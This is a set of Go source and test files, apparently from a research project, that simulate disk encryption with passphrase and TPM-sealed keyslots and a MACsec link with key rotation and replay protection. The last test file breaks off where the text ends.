// be provisioned and operators fall back to manual passphrase entry — which
// the package models explicitly so experiments can quantify the operational
// cost.
package storage

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"crypto/sha256"
	"errors"
	"fmt"
	"io"
	"sync"

	"genio/internal/tpm"
)

// Errors returned by volume operations.
var (
	ErrLocked        = errors.New("storage: volume locked")
	ErrBadPassphrase = errors.New("storage: wrong passphrase")
	ErrNoSlot        = errors.New("storage: no such keyslot")
	ErrTPMUnavail    = errors.New("storage: tpm libraries unavailable on this distro")
	ErrCorrupt       = errors.New("storage: ciphertext corrupt")
)

// pbkdfIterations models the KDF work factor. Real LUKS uses argon2/pbkdf2
// with high cost; the simulation keeps the shape (iterated hashing) cheap.
const pbkdfIterations = 4096

// slotKind discriminates keyslot types.
type slotKind int

const (
	slotPassphrase slotKind = iota + 1
	slotTPM
)

// keySlot protects the volume master key under one unlock method, like a
// LUKS keyslot.
type keySlot struct {
	kind slotKind
	// passphrase slot
	salt      []byte
	wrapped   []byte // master key encrypted under KDF(passphrase)
	wrapNonce []byte
	// tpm slot
	sealed *tpm.SealedBlob
}

// Volume is an encrypted partition. Data operations require the volume to
// be unlocked. Safe for concurrent use.
type Volume struct {
	Name string

	mu        sync.Mutex
	masterKey []byte // nil while locked
	slots     map[string]*keySlot
	data      map[string][]byte // path -> AES-GCM sealed content
	unlocks   int
	manual    int // unlocks that required a human-entered passphrase
}

// CreateVolume initializes an encrypted volume with a passphrase keyslot
// named "passphrase". The volume starts unlocked.
func CreateVolume(name, passphrase string) (*Volume, error) {
	master := make([]byte, 32)
	if _, err := io.ReadFull(rand.Reader, master); err != nil {
		return nil, fmt.Errorf("master key: %w", err)
	}
	v := &Volume{
		Name:      name,
		masterKey: master,
		slots:     make(map[string]*keySlot),
		data:      make(map[string][]byte),
	}
	if err := v.AddPassphraseSlot("passphrase", passphrase); err != nil {
		return nil, err
	}
	return v, nil
}

func deriveKey(passphrase string, salt []byte) []byte {
	sum := sha256.Sum256(append(salt, []byte(passphrase)...))
	for i := 0; i < pbkdfIterations; i++ {
		sum = sha256.Sum256(sum[:])
	}
	return sum[:]
}

func gcmFor(key []byte) (cipher.AEAD, error) {
	block, err := aes.NewCipher(key)
	if err != nil {
		return nil, fmt.Errorf("cipher: %w", err)
	}
	return cipher.NewGCM(block)
}

// AddPassphraseSlot wraps the master key under a passphrase-derived key.
// The volume must be unlocked.
func (v *Volume) AddPassphraseSlot(name, passphrase string) error {
	v.mu.Lock()
	defer v.mu.Unlock()
	if v.masterKey == nil {
		return ErrLocked
	}
	salt := make([]byte, 16)
	if _, err := io.ReadFull(rand.Reader, salt); err != nil {
		return fmt.Errorf("salt: %w", err)
	}
	gcm, err := gcmFor(deriveKey(passphrase, salt))
	if err != nil {
		return err
	}
	nonce := make([]byte, gcm.NonceSize())
	if _, err := io.ReadFull(rand.Reader, nonce); err != nil {
		return fmt.Errorf("nonce: %w", err)
	}
	v.slots[name] = &keySlot{
		kind:      slotPassphrase,
		salt:      salt,
		wrapped:   gcm.Seal(nil, nonce, v.masterKey, []byte(name)),
		wrapNonce: nonce,
	}
	return nil
}

// ClevisConfig describes the TPM auto-unlock environment. HasTPMLibs models
// whether the distro ships the tpm2-tss stack Clevis requires — false on
// ONL Debian 10 (Lesson 3).
type ClevisConfig struct {
	TPM          *tpm.TPM
	PCRSelection []int
	HasTPMLibs   bool
}

// BindTPMSlot provisions a Clevis-style keyslot sealing the master key to
// the current PCR state. Fails with ErrTPMUnavail when the required
// libraries are missing, reproducing the Lesson-3 obstacle.
func (v *Volume) BindTPMSlot(name string, cfg ClevisConfig) error {
	if !cfg.HasTPMLibs {
		return fmt.Errorf("%w: cannot provision clevis slot %q", ErrTPMUnavail, name)
	}
	if cfg.TPM == nil {
		return errors.New("storage: nil TPM")
	}
	v.mu.Lock()
	defer v.mu.Unlock()
	if v.masterKey == nil {
		return ErrLocked
	}
	sealed, err := cfg.TPM.Seal(v.masterKey, cfg.PCRSelection)
	if err != nil {
		return fmt.Errorf("seal master key: %w", err)
	}
	v.slots[name] = &keySlot{kind: slotTPM, sealed: sealed}
	return nil
}

// Lock discards the in-memory master key; subsequent data operations fail
// until an unlock succeeds.
func (v *Volume) Lock() {
	v.mu.Lock()
	defer v.mu.Unlock()
	v.masterKey = nil
}

// Locked reports whether the volume is locked.
func (v *Volume) Locked() bool {
	v.mu.Lock()
	defer v.mu.Unlock()
	return v.masterKey == nil
}

// UnlockPassphrase unlocks using a passphrase slot; this is the manual
// fallback path whose operational cost Lesson 3 highlights.
func (v *Volume) UnlockPassphrase(slotName, passphrase string) error {
	v.mu.Lock()
	defer v.mu.Unlock()
	slot, ok := v.slots[slotName]
	if !ok || slot.kind != slotPassphrase {
		return fmt.Errorf("%w: %s", ErrNoSlot, slotName)
	}
	gcm, err := gcmFor(deriveKey(passphrase, slot.salt))
	if err != nil {
		return err
	}
	master, err := gcm.Open(nil, slot.wrapNonce, slot.wrapped, []byte(slotName))
	if err != nil {
		return ErrBadPassphrase
	}
	v.masterKey = master
	v.unlocks++
	v.manual++
	return nil
}

// UnlockTPM unlocks using a Clevis-style slot: the TPM releases the master
// key only if the PCR policy matches the sealed state (i.e. the node booted
// the expected software).
func (v *Volume) UnlockTPM(slotName string, t *tpm.TPM) error {
	v.mu.Lock()
	defer v.mu.Unlock()
	slot, ok := v.slots[slotName]
	if !ok || slot.kind != slotTPM {
		return fmt.Errorf("%w: %s", ErrNoSlot, slotName)
	}
	master, err := t.Unseal(slot.sealed)
	if err != nil {
		return fmt.Errorf("tpm unseal: %w", err)
	}
	v.masterKey = master
	v.unlocks++
	return nil
}

// RemoveSlot deletes a keyslot.
func (v *Volume) RemoveSlot(name string) error {
	v.mu.Lock()
	defer v.mu.Unlock()
	if _, ok := v.slots[name]; !ok {
		return fmt.Errorf("%w: %s", ErrNoSlot, name)
	}
	delete(v.slots, name)
	return nil
}

// Slots lists keyslot names.
func (v *Volume) Slots() []string {
	v.mu.Lock()
	defer v.mu.Unlock()
	out := make([]string, 0, len(v.slots))
	for n := range v.slots {
		out = append(out, n)
	}
	return out
}

// Write stores content encrypted under the master key.
func (v *Volume) Write(path string, content []byte) error {
	v.mu.Lock()
	defer v.mu.Unlock()
	if v.masterKey == nil {
		return ErrLocked
	}
	gcm, err := gcmFor(v.masterKey)
	if err != nil {
		return err
	}
	nonce := make([]byte, gcm.NonceSize())
	if _, err := io.ReadFull(rand.Reader, nonce); err != nil {
		return fmt.Errorf("nonce: %w", err)
	}
	v.data[path] = append(nonce, gcm.Seal(nil, nonce, content, []byte(path))...)
	return nil
}

// Read decrypts stored content.
func (v *Volume) Read(path string) ([]byte, error) {
	v.mu.Lock()
	defer v.mu.Unlock()
	if v.masterKey == nil {
		return nil, ErrLocked
	}
	blob, ok := v.data[path]
	if !ok {
		return nil, fmt.Errorf("storage: %s not found", path)
	}
	gcm, err := gcmFor(v.masterKey)
	if err != nil {
		return nil, err
	}
	if len(blob) < gcm.NonceSize() {
		return nil, ErrCorrupt
	}
	pt, err := gcm.Open(nil, blob[:gcm.NonceSize()], blob[gcm.NonceSize():], []byte(path))
	if err != nil {
		return nil, fmt.Errorf("%w: %s", ErrCorrupt, path)
	}
	return pt, nil
}

// RawData exposes the ciphertext of a path, modelling what a thief who
// steals the disk sees.
func (v *Volume) RawData(path string) ([]byte, bool) {
	v.mu.Lock()
	defer v.mu.Unlock()
	b, ok := v.data[path]
	if !ok {
		return nil, false
	}
	return append([]byte(nil), b...), true
}

// UnlockStats reports total unlocks and how many needed manual passphrase
// entry — the Lesson-3 operational-cost metric.
func (v *Volume) UnlockStats() (total, manual int) {
	v.mu.Lock()
	defer v.mu.Unlock()
	return v.unlocks, v.manual
}
