package storage

import (
	"bytes"
	"errors"
	"testing"

	"genio/internal/tpm"
)

func newVolume(t *testing.T) *Volume {
	t.Helper()
	v, err := CreateVolume("data0", "correct horse battery")
	if err != nil {
		t.Fatalf("CreateVolume: %v", err)
	}
	return v
}

func newTPM(t *testing.T) *tpm.TPM {
	t.Helper()
	tp, err := tpm.New()
	if err != nil {
		t.Fatalf("tpm.New: %v", err)
	}
	return tp
}

func TestWriteReadRoundTrip(t *testing.T) {
	v := newVolume(t)
	if err := v.Write("/tenant/a.db", []byte("rows")); err != nil {
		t.Fatalf("Write: %v", err)
	}
	got, err := v.Read("/tenant/a.db")
	if err != nil || !bytes.Equal(got, []byte("rows")) {
		t.Fatalf("Read = %q, %v", got, err)
	}
}

func TestLockedVolumeDeniesIO(t *testing.T) {
	v := newVolume(t)
	if err := v.Write("/x", []byte("1")); err != nil {
		t.Fatal(err)
	}
	v.Lock()
	if !v.Locked() {
		t.Fatal("Locked() = false after Lock")
	}
	if _, err := v.Read("/x"); !errors.Is(err, ErrLocked) {
		t.Fatalf("Read err = %v, want ErrLocked", err)
	}
	if err := v.Write("/y", []byte("2")); !errors.Is(err, ErrLocked) {
		t.Fatalf("Write err = %v, want ErrLocked", err)
	}
}

func TestPassphraseUnlock(t *testing.T) {
	v := newVolume(t)
	if err := v.Write("/x", []byte("1")); err != nil {
		t.Fatal(err)
	}
	v.Lock()
	if err := v.UnlockPassphrase("passphrase", "wrong"); !errors.Is(err, ErrBadPassphrase) {
		t.Fatalf("err = %v, want ErrBadPassphrase", err)
	}
	if err := v.UnlockPassphrase("passphrase", "correct horse battery"); err != nil {
		t.Fatalf("UnlockPassphrase: %v", err)
	}
	got, err := v.Read("/x")
	if err != nil || !bytes.Equal(got, []byte("1")) {
		t.Fatalf("Read = %q, %v", got, err)
	}
	total, manual := v.UnlockStats()
	if total != 1 || manual != 1 {
		t.Fatalf("UnlockStats = %d, %d", total, manual)
	}
}

func TestTPMAutoUnlock(t *testing.T) {
	v := newVolume(t)
	tp := newTPM(t)
	if _, err := tp.Extend(tpm.PCRKernel, "kernel", []byte("good-kernel")); err != nil {
		t.Fatal(err)
	}
	cfg := ClevisConfig{TPM: tp, PCRSelection: []int{tpm.PCRKernel}, HasTPMLibs: true}
	if err := v.BindTPMSlot("clevis", cfg); err != nil {
		t.Fatalf("BindTPMSlot: %v", err)
	}
	if err := v.Write("/x", []byte("1")); err != nil {
		t.Fatal(err)
	}
	v.Lock()
	if err := v.UnlockTPM("clevis", tp); err != nil {
		t.Fatalf("UnlockTPM: %v", err)
	}
	got, err := v.Read("/x")
	if err != nil || !bytes.Equal(got, []byte("1")) {
		t.Fatalf("Read = %q, %v", got, err)
	}
	total, manual := v.UnlockStats()
	if total != 1 || manual != 0 {
		t.Fatalf("UnlockStats = %d, %d (TPM unlock must not count as manual)", total, manual)
	}
}

func TestTPMUnlockFailsAfterTamperedBoot(t *testing.T) {
	v := newVolume(t)
	tp := newTPM(t)
	if _, err := tp.Extend(tpm.PCRKernel, "kernel", []byte("good-kernel")); err != nil {
		t.Fatal(err)
	}
	cfg := ClevisConfig{TPM: tp, PCRSelection: []int{tpm.PCRKernel}, HasTPMLibs: true}
	if err := v.BindTPMSlot("clevis", cfg); err != nil {
		t.Fatal(err)
	}
	v.Lock()
	// Next boot measures a different kernel.
	if _, err := tp.Extend(tpm.PCRKernel, "kernel", []byte("evil-kernel")); err != nil {
		t.Fatal(err)
	}
	if err := v.UnlockTPM("clevis", tp); err == nil {
		t.Fatal("TPM released key despite tampered boot state")
	}
	if !v.Locked() {
		t.Fatal("volume unlocked after failed TPM release")
	}
}

func TestClevisUnavailableOnONL(t *testing.T) {
	// Lesson 3: ONL Debian 10 lacks the TPM libraries Clevis needs.
	v := newVolume(t)
	tp := newTPM(t)
	cfg := ClevisConfig{TPM: tp, PCRSelection: []int{tpm.PCRKernel}, HasTPMLibs: false}
	if err := v.BindTPMSlot("clevis", cfg); !errors.Is(err, ErrTPMUnavail) {
		t.Fatalf("err = %v, want ErrTPMUnavail", err)
	}
	// Operators fall back to the manual passphrase path.
	v.Lock()
	if err := v.UnlockPassphrase("passphrase", "correct horse battery"); err != nil {
		t.Fatal(err)
	}
	_, manual := v.UnlockStats()
	if manual != 1 {
		t.Fatalf("manual unlocks = %d, want 1", manual)
	}
}

func TestStolenDiskSeesOnlyCiphertext(t *testing.T) {
	v := newVolume(t)
	secret := []byte("customer-PII-records")
	if err := v.Write("/db", secret); err != nil {
		t.Fatal(err)
	}
	raw, ok := v.RawData("/db")
	if !ok {
		t.Fatal("RawData missing")
	}
	if bytes.Contains(raw, secret) {
		t.Fatal("plaintext visible on disk")
	}
	if _, ok := v.RawData("/missing"); ok {
		t.Fatal("RawData of missing path reported ok")
	}
}

func TestSlotManagement(t *testing.T) {
	v := newVolume(t)
	if err := v.AddPassphraseSlot("recovery", "backup-phrase"); err != nil {
		t.Fatal(err)
	}
	if got := len(v.Slots()); got != 2 {
		t.Fatalf("Slots = %d, want 2", got)
	}
	v.Lock()
	// Adding a slot while locked is impossible (no master key in memory).
	if err := v.AddPassphraseSlot("x", "y"); !errors.Is(err, ErrLocked) {
		t.Fatalf("err = %v, want ErrLocked", err)
	}
	if err := v.UnlockPassphrase("recovery", "backup-phrase"); err != nil {
		t.Fatalf("recovery unlock: %v", err)
	}
	if err := v.RemoveSlot("recovery"); err != nil {
		t.Fatal(err)
	}
	if err := v.RemoveSlot("recovery"); !errors.Is(err, ErrNoSlot) {
		t.Fatalf("err = %v, want ErrNoSlot", err)
	}
}

func TestUnlockUnknownSlot(t *testing.T) {
	v := newVolume(t)
	v.Lock()
	if err := v.UnlockPassphrase("nope", "x"); !errors.Is(err, ErrNoSlot) {
		t.Fatalf("err = %v, want ErrNoSlot", err)
	}
	tp := newTPM(t)
	if err := v.UnlockTPM("nope", tp); !errors.Is(err, ErrNoSlot) {
		t.Fatalf("err = %v, want ErrNoSlot", err)
	}
	// Wrong-kind slot: passphrase slot via UnlockTPM.
	if err := v.UnlockTPM("passphrase", tp); !errors.Is(err, ErrNoSlot) {
		t.Fatalf("err = %v, want ErrNoSlot", err)
	}
}

func TestCorruptCiphertextDetected(t *testing.T) {
	v := newVolume(t)
	if err := v.Write("/x", []byte("data")); err != nil {
		t.Fatal(err)
	}
	// Flip a byte in place (attacker with raw disk access).
	v.mu.Lock()
	v.data["/x"][len(v.data["/x"])-1] ^= 0xff
	v.mu.Unlock()
	if _, err := v.Read("/x"); !errors.Is(err, ErrCorrupt) {
		t.Fatalf("err = %v, want ErrCorrupt", err)
	}
}

func TestReadMissingPath(t *testing.T) {
	v := newVolume(t)
	if _, err := v.Read("/absent"); err == nil {
		t.Fatal("Read of missing path succeeded")
	}
}
