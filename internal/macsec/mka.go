package macsec

// MKA-style key agreement and rotation. Real MACsec deployments rotate the
// Secure Association Key before the 32/64-bit packet-number space exhausts
// (the MACsec Key Agreement protocol); GENIO inherits that requirement on
// its long-lived OLT uplinks. KeyServer derives successive SAKs from a
// pre-shared CAK (connectivity association key), and Channel.Rekey swaps
// both directions onto the next association number without dropping the
// link — the hitless rekey the standard prescribes.

import (
	"crypto/hkdf"
	"crypto/sha256"
	"encoding/binary"
	"fmt"
	"sync"
)

// KeyServer derives per-epoch SAKs from a CAK, in the MKA key-server role.
type KeyServer struct {
	mu    sync.Mutex
	cak   [32]byte
	epoch uint32
}

// NewKeyServer creates a key server over the given CAK.
func NewKeyServer(cak [32]byte) *KeyServer {
	return &KeyServer{cak: cak}
}

// Epoch returns the current key epoch.
func (ks *KeyServer) Epoch() uint32 {
	ks.mu.Lock()
	defer ks.mu.Unlock()
	return ks.epoch
}

// NextSAK derives the SAK for the next epoch.
func (ks *KeyServer) NextSAK() ([32]byte, uint32, error) {
	ks.mu.Lock()
	defer ks.mu.Unlock()
	ks.epoch++
	var salt [4]byte
	binary.BigEndian.PutUint32(salt[:], ks.epoch)
	derived, err := hkdf.Key(sha256.New, ks.cak[:], salt[:], "genio-mka-sak", 32)
	if err != nil {
		return [32]byte{}, 0, fmt.Errorf("derive sak: %w", err)
	}
	var sak [32]byte
	copy(sak[:], derived)
	return sak, ks.epoch, nil
}

// SecureChannel is a managed bidirectional MACsec link that rotates keys
// via a KeyServer. It wraps Channel with epoch state.
type SecureChannel struct {
	mu     sync.Mutex
	a, b   *SecY
	ks     *KeyServer
	an     uint8
	window uint64
	// RekeyThreshold is the PN after which SendAB/SendBA trigger an
	// automatic rekey (guarding the nonce space).
	RekeyThreshold uint64
}

// NewSecureChannel builds a managed channel keyed from the key server.
func NewSecureChannel(a, b *SecY, ks *KeyServer, window uint64) (*SecureChannel, error) {
	sc := &SecureChannel{a: a, b: b, ks: ks, window: window, RekeyThreshold: 1 << 30}
	if err := sc.Rekey(); err != nil {
		return nil, err
	}
	return sc, nil
}

// AN returns the active association number.
func (sc *SecureChannel) AN() uint8 {
	sc.mu.Lock()
	defer sc.mu.Unlock()
	return sc.an
}

// Rekey derives the next SAK and installs it under the next association
// number on both SecYs, then switches transmission to it. The previous
// receive SA stays installed so in-flight frames still validate — the
// hitless property.
func (sc *SecureChannel) Rekey() error {
	sc.mu.Lock()
	defer sc.mu.Unlock()
	sak, epoch, err := sc.ks.NextSAK()
	if err != nil {
		return err
	}
	next := uint8(epoch % 4) // MACsec ANs cycle 0..3
	for _, step := range []error{
		sc.a.InstallTxSA(next, sak), sc.b.InstallRxSA(next, sak, sc.window),
		sc.b.InstallTxSA(next, sak), sc.a.InstallRxSA(next, sak, sc.window),
	} {
		if step != nil {
			return fmt.Errorf("rekey to an=%d: %w", next, step)
		}
	}
	sc.an = next
	return nil
}

// SendAB protects a frame on A and validates it on B, auto-rekeying when
// the PN approaches the threshold.
func (sc *SecureChannel) SendAB(f Frame) (Frame, error) {
	return sc.send(sc.a, sc.b, f)
}

// SendBA protects a frame on B and validates it on A.
func (sc *SecureChannel) SendBA(f Frame) (Frame, error) {
	return sc.send(sc.b, sc.a, f)
}

func (sc *SecureChannel) send(tx, rx *SecY, f Frame) (Frame, error) {
	sc.mu.Lock()
	an := sc.an
	sc.mu.Unlock()
	pf, err := tx.Protect(an, f)
	if err != nil {
		return Frame{}, err
	}
	out, err := rx.Validate(pf)
	if err != nil {
		return Frame{}, err
	}
	if pf.PN >= sc.RekeyThreshold {
		if err := sc.Rekey(); err != nil {
			return out, fmt.Errorf("auto-rekey: %w", err)
		}
	}
	return out, nil
}
