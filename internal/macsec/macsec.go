// Package macsec implements an IEEE 802.1AE-style MAC Security entity used
// by GENIO to protect point-to-point Ethernet segments between OLTs and the
// upstream network (M3).
//
// The paper deploys hardware/kernel MACsec; here the SecY (security entity)
// model, AES-GCM frame protection, packet numbering, and replay-window
// enforcement are implemented in software over simulated Ethernet frames.
// The confidentiality/integrity/anti-replay guarantees that matter to threat
// T1 are provided by the same AES-GCM construction the standard mandates.
package macsec

import (
	"crypto/aes"
	"crypto/cipher"
	"encoding/binary"
	"errors"
	"fmt"
	"sync"
)

// Frame is a simulated Ethernet frame.
type Frame struct {
	Src     [6]byte
	Dst     [6]byte
	EtherID uint16
	Payload []byte
}

// ProtectedFrame is a MACsec-protected frame: the SecTAG (association number
// + packet number), the original addressing, and the AES-GCM ciphertext.
type ProtectedFrame struct {
	Src        [6]byte
	Dst        [6]byte
	AN         uint8  // association number identifying the SA
	PN         uint64 // packet number (monotonically increasing per SA)
	Ciphertext []byte // encrypted EtherID || payload, with GCM tag
}

// Errors returned by frame validation.
var (
	ErrReplay       = errors.New("macsec: replayed or stale packet number")
	ErrAuth         = errors.New("macsec: frame authentication failed")
	ErrNoSA         = errors.New("macsec: no security association for AN")
	ErrKeyExhausted = errors.New("macsec: packet number space exhausted")
)

// SA is a security association: one direction of keyed traffic.
type SA struct {
	key    [32]byte
	aead   cipher.AEAD
	nextPN uint64 // transmit side: next PN to use
	// receive side replay protection
	highestPN uint64
	window    uint64
	seen      map[uint64]bool
}

// SecY is a MAC security entity managing transmit and receive SAs, as one
// side of a secured channel. Safe for concurrent use.
type SecY struct {
	mu   sync.Mutex
	name string
	tx   map[uint8]*SA
	rx   map[uint8]*SA
	// Stats for experiments.
	protected uint64
	validated uint64
	dropped   uint64
}

// NewSecY creates a security entity with the given name (diagnostics only).
func NewSecY(name string) *SecY {
	return &SecY{name: name, tx: make(map[uint8]*SA), rx: make(map[uint8]*SA)}
}

func newSA(key [32]byte, window uint64) (*SA, error) {
	block, err := aes.NewCipher(key[:])
	if err != nil {
		return nil, fmt.Errorf("sa cipher: %w", err)
	}
	aead, err := cipher.NewGCM(block)
	if err != nil {
		return nil, fmt.Errorf("sa gcm: %w", err)
	}
	return &SA{key: key, aead: aead, nextPN: 1, window: window, seen: make(map[uint64]bool)}, nil
}

// InstallTxSA installs a transmit security association under association
// number an with the given 256-bit key.
func (s *SecY) InstallTxSA(an uint8, key [32]byte) error {
	sa, err := newSA(key, 0)
	if err != nil {
		return err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	s.tx[an] = sa
	return nil
}

// InstallRxSA installs a receive security association with a replay window:
// frames older than highestPN-window are dropped, duplicates always dropped.
// window 0 enforces strict in-order delivery.
func (s *SecY) InstallRxSA(an uint8, key [32]byte, window uint64) error {
	sa, err := newSA(key, window)
	if err != nil {
		return err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	s.rx[an] = sa
	return nil
}

// Protect encrypts and authenticates a frame on the transmit SA for an.
func (s *SecY) Protect(an uint8, f Frame) (*ProtectedFrame, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	sa, ok := s.tx[an]
	if !ok {
		return nil, fmt.Errorf("%w: tx an=%d", ErrNoSA, an)
	}
	if sa.nextPN == 0 { // wrapped
		return nil, ErrKeyExhausted
	}
	pn := sa.nextPN
	sa.nextPN++

	plaintext := make([]byte, 2+len(f.Payload))
	binary.BigEndian.PutUint16(plaintext[:2], f.EtherID)
	copy(plaintext[2:], f.Payload)

	nonce := saNonce(f.Src, pn)
	aad := saAAD(f.Src, f.Dst, an, pn)
	ct := sa.aead.Seal(nil, nonce, plaintext, aad)
	s.protected++
	return &ProtectedFrame{Src: f.Src, Dst: f.Dst, AN: an, PN: pn, Ciphertext: ct}, nil
}

// Validate authenticates and decrypts a protected frame on the receive SA,
// enforcing the replay window.
func (s *SecY) Validate(pf *ProtectedFrame) (Frame, error) {
	if pf == nil {
		return Frame{}, fmt.Errorf("%w: nil frame", ErrAuth)
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	sa, ok := s.rx[pf.AN]
	if !ok {
		s.dropped++
		return Frame{}, fmt.Errorf("%w: rx an=%d", ErrNoSA, pf.AN)
	}
	if err := sa.checkReplay(pf.PN); err != nil {
		s.dropped++
		return Frame{}, err
	}
	nonce := saNonce(pf.Src, pf.PN)
	aad := saAAD(pf.Src, pf.Dst, pf.AN, pf.PN)
	pt, err := sa.aead.Open(nil, nonce, pf.Ciphertext, aad)
	if err != nil {
		s.dropped++
		return Frame{}, fmt.Errorf("%w: %v", ErrAuth, err)
	}
	if len(pt) < 2 {
		s.dropped++
		return Frame{}, fmt.Errorf("%w: short plaintext", ErrAuth)
	}
	sa.acceptPN(pf.PN)
	s.validated++
	return Frame{
		Src:     pf.Src,
		Dst:     pf.Dst,
		EtherID: binary.BigEndian.Uint16(pt[:2]),
		Payload: pt[2:],
	}, nil
}

func (sa *SA) checkReplay(pn uint64) error {
	if pn == 0 {
		return fmt.Errorf("%w: pn 0", ErrReplay)
	}
	if sa.seen[pn] {
		return fmt.Errorf("%w: duplicate pn %d", ErrReplay, pn)
	}
	if sa.highestPN > sa.window && pn <= sa.highestPN-sa.window {
		return fmt.Errorf("%w: pn %d below window (highest %d, window %d)",
			ErrReplay, pn, sa.highestPN, sa.window)
	}
	return nil
}

func (sa *SA) acceptPN(pn uint64) {
	sa.seen[pn] = true
	if pn > sa.highestPN {
		sa.highestPN = pn
		// Garbage-collect entries that fell out of the window so the map
		// stays bounded on long-running channels.
		if sa.highestPN > sa.window {
			floor := sa.highestPN - sa.window
			for k := range sa.seen {
				if k < floor {
					delete(sa.seen, k)
				}
			}
		}
	}
}

// Stats reports counters for experiments: frames protected, validated, and
// dropped by this SecY.
func (s *SecY) Stats() (protected, validated, dropped uint64) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.protected, s.validated, s.dropped
}

func saNonce(src [6]byte, pn uint64) []byte {
	// 96-bit nonce: 4 bytes of source suffix || 8-byte PN, unique per SA key
	// because PN never repeats under one key.
	nonce := make([]byte, 12)
	copy(nonce[:4], src[2:])
	binary.BigEndian.PutUint64(nonce[4:], pn)
	return nonce
}

func saAAD(src, dst [6]byte, an uint8, pn uint64) []byte {
	aad := make([]byte, 0, 21)
	aad = append(aad, src[:]...)
	aad = append(aad, dst[:]...)
	aad = append(aad, an)
	var pnb [8]byte
	binary.BigEndian.PutUint64(pnb[:], pn)
	return append(aad, pnb[:]...)
}

// Channel couples two SecYs into a bidirectional secured link with a fresh
// key, the common deployment unit in GENIO (OLT <-> upstream switch).
type Channel struct {
	A, B *SecY
}

// NewChannel wires a and b with symmetric SAs (AN 0 each way) derived from
// key, using the given replay window on both receive sides.
func NewChannel(a, b *SecY, key [32]byte, window uint64) (*Channel, error) {
	for _, step := range []error{
		a.InstallTxSA(0, key), b.InstallRxSA(0, key, window),
		b.InstallTxSA(0, key), a.InstallRxSA(0, key, window),
	} {
		if step != nil {
			return nil, step
		}
	}
	return &Channel{A: a, B: b}, nil
}
