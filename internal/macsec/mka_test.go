package macsec

import (
	"bytes"
	"testing"
)

func testSecureChannel(t *testing.T) (*SecureChannel, *KeyServer) {
	t.Helper()
	var cak [32]byte
	cak[0] = 9
	ks := NewKeyServer(cak)
	sc, err := NewSecureChannel(NewSecY("olt"), NewSecY("core"), ks, 64)
	if err != nil {
		t.Fatalf("NewSecureChannel: %v", err)
	}
	return sc, ks
}

func TestSecureChannelRoundTrip(t *testing.T) {
	sc, _ := testSecureChannel(t)
	in := Frame{Src: srcMAC, Dst: dstMAC, Payload: []byte("uplink")}
	out, err := sc.SendAB(in)
	if err != nil {
		t.Fatalf("SendAB: %v", err)
	}
	if !bytes.Equal(out.Payload, in.Payload) {
		t.Fatal("payload mismatch")
	}
	back, err := sc.SendBA(Frame{Src: dstMAC, Dst: srcMAC, Payload: []byte("downlink")})
	if err != nil {
		t.Fatalf("SendBA: %v", err)
	}
	if !bytes.Equal(back.Payload, []byte("downlink")) {
		t.Fatal("reverse payload mismatch")
	}
}

func TestManualRekeyIsHitless(t *testing.T) {
	sc, ks := testSecureChannel(t)
	if _, err := sc.SendAB(Frame{Src: srcMAC, Dst: dstMAC, Payload: []byte("before")}); err != nil {
		t.Fatal(err)
	}
	before := sc.AN()
	if err := sc.Rekey(); err != nil {
		t.Fatalf("Rekey: %v", err)
	}
	if sc.AN() == before {
		t.Fatal("AN did not advance")
	}
	if ks.Epoch() != 2 {
		t.Fatalf("epoch = %d, want 2", ks.Epoch())
	}
	if _, err := sc.SendAB(Frame{Src: srcMAC, Dst: dstMAC, Payload: []byte("after")}); err != nil {
		t.Fatalf("SendAB after rekey: %v", err)
	}
}

func TestAutoRekeyOnThreshold(t *testing.T) {
	sc, ks := testSecureChannel(t)
	sc.RekeyThreshold = 5
	for i := 0; i < 12; i++ {
		if _, err := sc.SendAB(Frame{Src: srcMAC, Dst: dstMAC, Payload: []byte{byte(i)}}); err != nil {
			t.Fatalf("frame %d: %v", i, err)
		}
	}
	// 12 frames with threshold 5 must have rekeyed at least twice
	// (epoch 1 initial + >= 2 rotations).
	if ks.Epoch() < 3 {
		t.Fatalf("epoch = %d, want >= 3", ks.Epoch())
	}
}

func TestOldFramesStillValidAfterRekey(t *testing.T) {
	sc, _ := testSecureChannel(t)
	oldAN := sc.AN()
	pf, err := sc.a.Protect(oldAN, Frame{Src: srcMAC, Dst: dstMAC, Payload: []byte("in-flight")})
	if err != nil {
		t.Fatal(err)
	}
	if err := sc.Rekey(); err != nil {
		t.Fatal(err)
	}
	// The in-flight frame on the previous AN still validates (hitless).
	if _, err := sc.b.Validate(pf); err != nil {
		t.Fatalf("in-flight frame rejected after rekey: %v", err)
	}
}

func TestDistinctSAKsPerEpoch(t *testing.T) {
	var cak [32]byte
	ks := NewKeyServer(cak)
	s1, e1, err := ks.NextSAK()
	if err != nil {
		t.Fatal(err)
	}
	s2, e2, err := ks.NextSAK()
	if err != nil {
		t.Fatal(err)
	}
	if s1 == s2 {
		t.Fatal("successive SAKs identical")
	}
	if e2 != e1+1 {
		t.Fatalf("epochs = %d, %d", e1, e2)
	}
	// Same CAK reproduces the same key schedule (both peers derive alike).
	ks2 := NewKeyServer(cak)
	r1, _, err := ks2.NextSAK()
	if err != nil {
		t.Fatal(err)
	}
	if r1 != s1 {
		t.Fatal("key schedule not deterministic from CAK")
	}
}
