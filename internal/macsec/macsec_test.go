package macsec

import (
	"bytes"
	"errors"
	"testing"
	"testing/quick"
)

var (
	srcMAC = [6]byte{0x02, 0x00, 0x00, 0x00, 0x00, 0x01}
	dstMAC = [6]byte{0x02, 0x00, 0x00, 0x00, 0x00, 0x02}
	tKey   = [32]byte{1, 2, 3, 4, 5}
)

func testChannel(t *testing.T, window uint64) (*SecY, *SecY) {
	t.Helper()
	a := NewSecY("olt")
	b := NewSecY("switch")
	if _, err := NewChannel(a, b, tKey, window); err != nil {
		t.Fatalf("NewChannel: %v", err)
	}
	return a, b
}

func TestProtectValidateRoundTrip(t *testing.T) {
	a, b := testChannel(t, 8)
	in := Frame{Src: srcMAC, Dst: dstMAC, EtherID: 0x0800, Payload: []byte("hello edge")}
	pf, err := a.Protect(0, in)
	if err != nil {
		t.Fatalf("Protect: %v", err)
	}
	out, err := b.Validate(pf)
	if err != nil {
		t.Fatalf("Validate: %v", err)
	}
	if out.EtherID != in.EtherID || !bytes.Equal(out.Payload, in.Payload) {
		t.Fatalf("round trip mismatch: %+v vs %+v", out, in)
	}
}

func TestCiphertextHidesPayload(t *testing.T) {
